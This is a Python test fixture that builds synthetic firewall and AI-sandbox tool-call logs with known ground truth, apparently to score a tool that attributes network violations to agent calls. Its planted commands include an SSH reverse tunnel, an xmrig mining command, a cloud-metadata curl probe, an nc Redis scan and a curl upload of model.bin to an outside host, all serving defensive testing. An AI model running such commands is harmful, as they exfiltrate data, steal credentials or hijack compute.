"""Synthetic incidents with known ground truth, for accuracy measurements and tests.

Builds normalised tables directly (no files): many sandboxes calling tools concurrently, benign
allowed traffic right after some calls (clock anchors), planted tunnels that retry, persistent
miners, metadata and internal probes, large uploads, violations from hosts that are no sandbox, a skewed
firewall clock, NAT in front of some sandboxes. ``causal=False`` plants the same violations at
random times instead, for the "no association" check.

``share`` puts the sandboxes behind shared addresses, ``per_address`` of them on each address at
the same moment (the last group may be smaller), as the seed's own stack deploys them:

- ``docker_host``: ROCK on Ray/Docker; every sandbox on a Docker host reports the host's address as
  its ``host_ip`` and egresses NATed to it, so calls and firewall both show the host's address;
- ``node``: Kubernetes node SNAT; pods' calls and egress both show the node address;
- ``nat``: a NAT gateway's EIP in front of a whole subnet; calls show each sandbox's own private
  address, the firewall only the EIP (as ``src_ip`` and ``src_nat_ip``).

The inventory then lists every (sandbox, shared address) row with that ``kind`` and overlapping
validity (for ``nat`` also each sandbox's own address, kind ``sandbox``). The shared addresses'
own hosts (the Docker daemon, the node, another machine behind the NAT), which run no agent, add
violations of their own (``host_strays``): no call caused them, and ``Truth.non_sandbox`` lists
them beside the strays from unknown hosts. Sandboxes, calls and plants are the same as with
``share=None`` and the same seed; only the addresses differ.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

import pyarrow as pa

from .pipeline import InputFile, Loaded
from .schema import HOSTS, NETWORK_EVENTS, TOOL_CALLS, from_columns

NS = 1_000_000_000
T0 = 1_764_655_200 * NS  # 2025-12-02T06:00:00Z
BENIGN = (
    "python solve.py",
    "ls -la /workspace",
    "python -m pytest -q",
    "cat README.md",
    "git status",
    "pip install -r requirements.txt",
)


@dataclass
class Truth:
    """What really happened: the causing call of each planted conversation, and the clock offset."""

    offset_s: float
    causes: dict[tuple[str, str, int], str | None] = field(default_factory=dict)
    """(src_ip, dst_ip, dst_port) -> the call that caused it (None: no call did)."""
    named: set[tuple[str, str, int]] = field(default_factory=set)
    """Conversations whose causing call names the destination in its text."""
    non_sandbox: set[tuple[str, str, int]] = field(default_factory=set)
    """Conversations sent by a host that is no sandbox (no call caused them)."""


SHARES = ("docker_host", "node", "nat")
"""How sandboxes can share an address (the hosts table's ``kind``)."""


def incident(
    *,
    seed: int = 0,
    sandboxes: int = 32,
    hours: float = 1.0,
    offset_s: float = -4.0,
    causal: bool = True,
    identity: bool = True,
    named_share: float = 0.8,
    nat_share: float = 0.5,
    plants: int = 24,
    strays: int = 4,
    share: str | None = None,
    per_address: int = 8,
    host_strays: int | None = None,
) -> tuple[Loaded, Truth]:
    """A loaded incident and its ground truth (see the module docstring).

    ``share``: None (each sandbox has its own address), ``docker_host``, ``node`` or ``nat``;
    ``per_address`` sandboxes share each address then. ``host_strays``: violations from the shared
    addresses' own hosts (None: one per shared address; ignored without ``share``).
    """
    if share is not None and share not in SHARES:
        raise ValueError(f"share must be one of {', '.join(SHARES)} or None, not {share!r}")
    if per_address < 1:
        raise ValueError(f"per_address must be at least 1, not {per_address}")
    rng = random.Random(seed)
    end = T0 + int(hours * 3600 * NS)
    calls: list[dict[str, object]] = []
    events: list[dict[str, object]] = []
    hosts: list[dict[str, object]] = []
    offset = int(offset_s * NS)

    def firewall_time(true_ns: int) -> int:
        return (true_ns + offset) // 1_000_000 * 1_000_000  # millisecond resolution

    group_nat: dict[int, str | None] = {}
    for s in range(sandboxes):
        host, ip = f"sbx-{s:03d}", f"10.20.{s // 200}.{s % 200 + 10}"
        nat = f"47.96.{s % 4}.1" if rng.random() < nat_share else None
        own = ip  # the address the sandbox's calls report
        if share is None:
            hosts.append({"host": host, "ip": ip, "origin": "inventory"})
        else:
            group = s // per_address
            ip = shared_address(share, group)
            if share == "nat":
                nat = ip
            else:  # the shared host is behind a NAT or not, as its first sandbox drew
                nat = group_nat.setdefault(group, None if nat is None else f"47.96.{group % 4}.1")
                own = ip
        t = T0 + rng.randint(0, 30) * NS
        if share is not None:
            # listed from a minute before its first call until well after the last violation
            valid = {"valid_from": t - 60 * NS, "valid_to": end + 2 * 3600 * NS}
            if share == "nat":
                hosts.append(
                    {"host": host, "ip": own, "kind": "sandbox", "origin": "inventory", **valid}
                )
            hosts.append(
                {
                    "host": host,
                    "ip": ip,
                    "kind": share,
                    "origin": "inventory",
                    "note": f"{SHARED_HOST[share]}-{group:03d}",
                    **valid,
                }
            )
        step = 0
        while t < end:
            step += 1
            duration = int(rng.uniform(0.2, 20) * NS)
            calls.append(
                {
                    "call_id": f"c{s:03d}-{step:04d}",
                    "run_id": "synthetic",
                    "episode_id": f"ep-{s:03d}-{(t - T0) // (900 * NS)}",
                    "step": step,
                    "ts_start": t,
                    "ts_end": t + duration,
                    "ts_kind": "exact",
                    "tool": "run_shell_command",
                    "command": rng.choice(BENIGN),
                    "host": host,
                    "host_ip": own if identity else None,
                    "_ip": ip,
                    "_nat": nat,
                }
            )
            if rng.random() < 0.3:
                events.append(
                    _event(
                        firewall_time(t + int(rng.uniform(0.05, 0.8) * NS)),
                        ip,
                        nat,
                        f"151.101.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
                        443,
                        "allowed",
                    )
                )
            t += duration + int(rng.uniform(5, 40) * NS)
    truth = Truth(offset_s=offset_s)
    chosen = rng.sample(range(len(calls)), plants)
    kinds = ("tunnel", "miner", "probe", "exfil")
    for n, index in enumerate(chosen):
        call = calls[index]
        kind = kinds[n % len(kinds)]
        named = rng.random() < named_share
        dst = f"203.0.{113 + n // 250}.{n % 250 + 1}"
        start = int(call["ts_start"]) if causal else rng.randint(T0, end)  # type: ignore[call-overload]
        ip, planted_nat = str(call["_ip"]), call["_nat"]
        if kind == "tunnel":
            port, plan = 22, [(0.4, "denied"), (3.4, "denied"), (9.4, "denied")]
            call["command"] = (
                f"ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no u@{dst}"
                if named
                else "bash ./remote_setup.sh"
            )
            extra: dict[str, object] = {"app": "SSH"}
        elif kind == "miner":
            port, plan = 3333, [(1.5 + 60 * k, "alerted") for k in range(30)]
            domain = f"pool{n}.supportxmr.com"
            call["command"] = (
                f"nohup ./xmrig -o stratum+tcp://{domain}:3333 -u 44AF -p x &"
                if named
                else "nohup ./worker --quiet &"
            )
            extra = {
                "dst_domain": domain,
                "signature": "Mining behavior on the host",
                "category": "Mining Behavior",
            }
        elif kind == "probe" and n < len(kinds):
            dst, port, plan = "100.100.100.200", 80, [(0.3, "denied")]
            call["command"] = (
                "curl -s http://100.100.100.200/latest/meta-data/"
                if named
                else "python env_check.py"
            )
            extra = {}
        elif kind == "probe":
            dst, port, plan = f"192.168.{n // 250}.{n % 250 + 1}", 6379, [(0.3, "denied")]
            call["command"] = f"nc -z -w1 {dst} 6379" if named else "python env_check.py"
            extra = {}
        else:
            port, plan = 443, [(2.0, "alerted")]
            call["command"] = (
                f"curl -T /workspace/model.bin https://{dst}/upload" if named else "python sync.py"
            )
            extra = {"bytes_out": 800_000_000, "signature": "Large outbound transfer"}
        for delay, action in plan:
            true_ns = start + int(delay * NS)
            if true_ns < end + 3600 * NS:
                events.append(
                    _event(firewall_time(true_ns), ip, planted_nat, dst, port, action, **extra)
                )
        key = (ip, dst, port)
        truth.causes[key] = str(call["call_id"]) if causal else None
        if named and causal:
            truth.named.add(key)
    for k in range(strays):
        ip = f"10.99.0.{k + 1}"
        dst = f"198.51.100.{k + 1}"
        for j in range(2):
            events.append(
                _event(firewall_time(rng.randint(T0, end) + j * NS), ip, None, dst, 4444, "denied")
            )
        truth.causes[(ip, dst, 4444)] = None
        truth.non_sandbox.add((ip, dst, 4444))
    if share is not None:
        groups = (sandboxes + per_address - 1) // per_address
        port = STRAY_PORT[share]
        for k in range(groups if host_strays is None else host_strays):
            group = k % groups
            ip = shared_address(share, group)
            nat = ip if share == "nat" else group_nat.get(group)
            dst = f"198.18.{k // 250}.{k % 250 + 1}"
            first = rng.randint(T0, end)
            for j in range(2):
                events.append(
                    _event(firewall_time(first + j * 2 * NS), ip, nat, dst, port, "denied")
                )
            truth.causes[(ip, dst, port)] = None
            truth.non_sandbox.add((ip, dst, port))
    for i, e in enumerate(events):
        e.update(
            source_format="synthetic_firewall", source_path="synthetic/firewall", source_line=i + 1
        )
    for i, c in enumerate(calls):
        c.update(
            source_format="synthetic_trajectory", source_path="synthetic/traces", source_line=i + 1
        )
    loaded = Loaded(
        events=_number(from_columns(_columns(events, NETWORK_EVENTS), NETWORK_EVENTS)),
        calls=from_columns(_columns(calls, TOOL_CALLS), TOOL_CALLS).sort_by(
            [("ts_start", "ascending"), ("source_line", "ascending")]
        ),
        hosts=from_columns(_columns(hosts, HOSTS), HOSTS) if identity else HOSTS.empty_table(),
        inputs=[InputFile(path="synthetic", format="synthetic", kind=None, sha256="", size=0)],
        rejects=[],
    )
    return loaded, truth


SHARED_HOST = {"docker_host": "docker", "node": "node", "nat": "natgw"}
"""What holds a shared address (named in the inventory's ``note``)."""
STRAY_PORT = {"docker_host": 5000, "node": 10250, "nat": 4444}
"""The port a shared address's own host violates on (registry pull, kubelet, anything)."""


def shared_address(share: str, group: int) -> str:
    """The address group ``group`` of sandboxes shares (``share`` as in ``incident``)."""
    if share == "docker_host":
        return f"10.30.{group // 200}.{group % 200 + 10}"
    if share == "node":
        return f"10.40.{group // 200}.{group % 200 + 10}"
    return f"47.97.{group // 200}.{group % 200 + 1}"


def _event(
    ts: int, ip: str, nat: object, dst: str, port: int, action: str, **extra: object
) -> dict[str, object]:
    row: dict[str, object] = {
        "ts": ts,
        "src_ip": ip,
        "src_nat_ip": nat,
        "dst_ip": dst,
        "dst_port": port,
        "protocol": "tcp",
        "direction": "outbound",
        "action": action,
        "action_raw": action,
    }
    row.update(extra)
    return row


def _columns(rows: list[dict[str, object]], schema: pa.Schema) -> dict[str, list[object]]:
    return {name: [r.get(name) for r in rows] for name in schema.names}


def _number(events: pa.Table) -> pa.Table:
    ordered = events.sort_by([("ts", "ascending"), ("source_line", "ascending")])
    return ordered.set_column(0, "event_id", pa.array(range(1, ordered.num_rows + 1), pa.int64()))


CONFIDENT = frozenset({"medium", "high"})
"""The confidence levels an attribution is acted upon at (the issue's targets count these)."""


@dataclass(frozen=True)
class Accuracy:
    """Attribution quality against the truth of a synthetic incident.

    The first eight fields count every attribution whatever its confidence: ``attributed``,
    ``correct`` and ``false_attributions`` are finding rows (a planted conversation split by an idle
    gap counts once per part), ``recall`` is ``correct / planted``. ``named_top1``: of the finding
    rows of conversations whose causing call names the destination, how many rank that call first
    at their anchor event.

    The ``confident_*`` fields count only attributions at medium or high confidence, which is what
    an analyst acts upon and what the targets of shared-address incidents are about (a low or
    ``none`` confidence is the tool saying "unsure", and is not counted as an attribution there):

    - ``confident_precision``: of the finding rows attributed to a call at medium/high, the share
      that name the causing call (a stray, which no call caused, attributed at medium/high is false);
    - ``confident_recall``: of the planted conversations, the share whose every finding row names
      the causing call at medium/high; ``confident_named_recall`` the same over the ``named_planted``
      ones whose causing call names the destination. Only the latter can be expected near 1 when
      sandboxes share an address: a call that does not name its destination, among 8 sandboxes
      busy at the same moment behind one address, has nothing but time to single it out, and a
      neighbour's call is often as close in time; an honest tool calls that low confidence or
      ambiguous, which ``confident_recall`` counts as missed.
    - ``non_sandbox_confident``: violations (events) sent by hosts that are no sandbox (strays from
      unknown addresses, and the shared addresses' own hosts) attributed to a call at medium/high
      confidence, out of ``non_sandbox_violations``; any is a false accusation.
    """

    planted: int
    attributed: int
    correct: int
    false_attributions: int
    precision: float
    recall: float
    named_top1: float | None
    offset_error_s: float | None
    named_planted: int = 0
    confident_attributed: int = 0
    confident_correct: int = 0
    confident_precision: float = 1.0
    confident_recall: float = 1.0
    confident_named_recall: float | None = None
    non_sandbox_violations: int = 0
    non_sandbox_confident: int = 0


def measure(
    findings: pa.Table,
    candidates: pa.Table,
    attributions: pa.Table,
    truth: Truth,
    estimated_offset_s: float | None,
) -> Accuracy:
    """Precision/recall of findings' calls, top-1 rate on named conversations, offset error, and
    the same at medium/high confidence only (see ``Accuracy``)."""
    rows = findings.select(
        ["conversation_id", "src_ip", "dst_ip", "dst_port", "call_id", "confidence"]
    ).to_pylist()
    planted = sum(1 for v in truth.causes.values() if v is not None)
    attributed = correct = wrong = 0
    seen: dict[tuple[str, str, int], list[str | None]] = {}
    confident_attributed = confident_correct = 0
    confidently_right: dict[tuple[str, str, int], bool] = {}
    for r in rows:
        key = (r["src_ip"], r["dst_ip"], r["dst_port"])
        if key not in truth.causes:
            continue
        seen.setdefault(key, []).append(r["call_id"])
        sure = r["call_id"] is not None and r["confidence"] in CONFIDENT
        right = sure and r["call_id"] == truth.causes[key]
        confident_attributed += sure
        confident_correct += right
        confidently_right[key] = confidently_right.get(key, True) and right
    for key, found in seen.items():
        true = truth.causes[key]
        for call in found:
            if call is None:
                continue
            attributed += 1
            if call == true:
                correct += 1
            else:
                wrong += 1
    # Top-1 among named conversations: the anchor event's first-ranked candidate.
    anchors = {
        r["conversation_id"]: r["event_id"]
        for r in attributions.select(["conversation_id", "event_id", "how"]).to_pylist()
        if r["how"] == "direct"
    }
    first = {
        r["event_id"]: r["call_id"]
        for r in candidates.select(["event_id", "call_id", "rank"]).to_pylist()
        if r["rank"] == 1
    }
    named_hits = named_total = 0
    for r in rows:
        key = (r["src_ip"], r["dst_ip"], r["dst_port"])
        if key in truth.named:
            named_total += 1
            named_hits += first.get(anchors.get(r["conversation_id"])) == truth.causes[key]
    recalled = [k for k, v in truth.causes.items() if v is not None and confidently_right.get(k)]
    named_recalled = sum(1 for k in recalled if k in truth.named)
    non_sandbox = non_sandbox_confident = 0
    for r in attributions.select(
        ["src_ip", "dst_ip", "dst_port", "call_id", "confidence"]
    ).to_pylist():
        if (r["src_ip"], r["dst_ip"], r["dst_port"]) in truth.non_sandbox:
            non_sandbox += 1
            non_sandbox_confident += r["call_id"] is not None and r["confidence"] in CONFIDENT
    return Accuracy(
        planted=planted,
        attributed=attributed,
        correct=correct,
        false_attributions=wrong,
        precision=correct / attributed if attributed else 1.0,
        recall=correct / planted if planted else 1.0,
        named_top1=named_hits / named_total if named_total else None,
        offset_error_s=None
        if estimated_offset_s is None
        else abs(estimated_offset_s - truth.offset_s),
        named_planted=len(truth.named),
        confident_attributed=confident_attributed,
        confident_correct=confident_correct,
        confident_precision=confident_correct / confident_attributed
        if confident_attributed
        else 1.0,
        confident_recall=len(recalled) / planted if planted else 1.0,
        confident_named_recall=named_recalled / len(truth.named) if truth.named else None,
        non_sandbox_violations=non_sandbox,
        non_sandbox_confident=non_sandbox_confident,
    )
